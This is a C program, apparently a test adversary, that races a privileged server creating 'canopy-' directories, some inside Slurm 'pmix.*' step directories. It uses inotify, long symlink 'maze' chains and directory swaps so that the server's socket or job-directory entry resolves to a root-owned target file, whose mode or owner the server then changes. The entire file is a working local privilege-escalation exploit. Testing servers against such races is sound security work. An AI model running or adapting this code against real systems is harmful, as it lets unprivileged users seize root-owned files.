/* A user who tampers with the directory that a server will use.
 *
 *   swap_entries BASE TARGET
 *
 * Waits for directories "canopy-..." in BASE, or in a directory "pmix.*" there,
 * which is Slurm's for a step. As soon as such a directory exists, replaces it
 * by a link that leads to it by a long path, so that every access of a server
 * by a path takes time. When the server has made an entry there, the path leads
 * to another directory, in which that name is a link to the file TARGET of
 * root. The server may then be about to change the mode of its socket, which is
 * awaited in every second directory, or the owner of a job's directory.
 * Continues until it is killed. Prints "ready" first. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

/* The kernel follows 40 links; a path has up to 4,095 bytes. */
enum { kLinks = 35, kSteps = 800, kSpins = 256 };

static const char *target;
static int top;  /* BASE */
static int base; /* the directory that the next server will use */
static char step[256];

static bool begins(const char *name, const char *with) {
  return strncmp(name, with, strlen(with)) == 0;
}

/* Finds the first entry that begins with `with`, and is not `but`. */
static bool find(int directory, const char *with, const char *but, char *name) {
  const int copy = openat(directory, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR *dir = copy < 0 ? NULL : fdopendir(copy);
  if (dir == NULL) return false;
  bool found = false;
  const struct dirent *entry;
  while (!found && (entry = readdir(dir)) != NULL) {
    found = begins(entry->d_name, with) && strcmp(entry->d_name, but) != 0;
    if (found) snprintf(name, 256, "%s", entry->d_name);
  }
  closedir(dir);
  return found;
}

/* Names the directory of a job: in a step of Slurm after the step's directory,
 * otherwise as exposed_host names its job. */
static void name_job(char *job) {
  if (begins(step, "pmix.")) {
    snprintf(job, 256, "slurm.%.200s", step);
  } else {
    strcpy(job, "exposed");
  }
}

static void put_aside(const char *name) {
  static int number;
  char former[64];
  snprintf(former, sizeof former, "former.%d", number++);
  renameat(base, name, base, former);
}

static void lead_to(const char *place) {
  symlinkat(place, base, "end.new");
  renameat(base, "end.new", base, "end");
}

/* Makes the path from "maze.0" to "end". */
static void make_maze(void) {
  char path[4096], name[32];
  mkdirat(base, "d", 0777);
  for (int i = 0; i < kLinks; ++i) {
    path[0] = '\0';
    char *at = path;
    for (int j = 0; j < kSteps; ++j) at = stpcpy(at, "d/../");
    sprintf(at, i + 1 < kLinks ? "maze.%d" : "end", i + 1);
    snprintf(name, sizeof name, "maze.%d", i);
    symlinkat(path, base, name);
  }
}

/* Prepares the directory for the next server. */
static void prepare(void) {
  char job[256];
  name_job(job);
  put_aside("real");
  put_aside("other");
  symlinkat("maze.0", base, "real");
  lead_to("real");
  mkdirat(base, "other", 0777);
  const int other = openat(base, "other", O_PATH | O_DIRECTORY | O_CLOEXEC);
  symlinkat(target, other, "clients.sock");
  symlinkat(target, other, job);
  close(other);
}

/* Waits until the entry or the directory of a later server exists. If the entry
 * exists, lets the path lead to the other directory. */
static void swap(const char *server, const char *entry) {
  const int real = openat(base, server, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (real < 0 || renameat2(base, server, base, "real", RENAME_EXCHANGE) != 0) {
    return put_aside(server);
  }
  char next[256];
  struct stat info;
  bool came = false;
  do {
    for (int i = 0; i < kSpins && !came; ++i) {
      came = fstatat(real, entry, &info, AT_SYMLINK_NOFOLLOW) == 0;
    }
  } while (!came && !find(base, "canopy-", server, next) &&
           !find(top, "pmix.", step, next));
  if (came) lead_to("other");
  close(real);
}

static void watch(int events, int directory) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", directory);
  inotify_add_watch(events, path, IN_CREATE | IN_ATTRIB | IN_MOVED_TO);
}

/* Returns whether a new step has begun. */
static bool begin_step(int events) {
  char next[256];
  if (!find(top, "pmix.", step, next)) return false;
  const int opened = openat(top, next, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (opened < 0) return false; /* its owner is about to change */
  strcpy(step, next);
  watch(events, opened);
  if (base != top) close(base);
  base = opened;
  return true;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  target = argv[2];
  base = top = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  const int events = inotify_init1(IN_CLOEXEC);
  if (top < 0 || events < 0) return 3;
  watch(events, top);
  make_maze();
  prepare();
  puts("ready");
  fflush(stdout);
  char server[256] = "", job[256], unread[4096];
  for (int number = 0;;) {
    if (begin_step(events)) {
      make_maze();
      prepare();
    }
    if (find(base, "canopy-", server, server)) {
      name_job(job);
      swap(server, number++ % 2 == 0 ? job : "clients.sock");
      char next[256];
      while (!find(base, "canopy-", server, next) &&
             !find(top, "pmix.", step, next)) {
        if (read(events, unread, sizeof unread) < 0) return 4;
      }
      put_aside(server);
      prepare();
    } else if (read(events, unread, sizeof unread) < 0) {
      return 4;
    }
  }
}
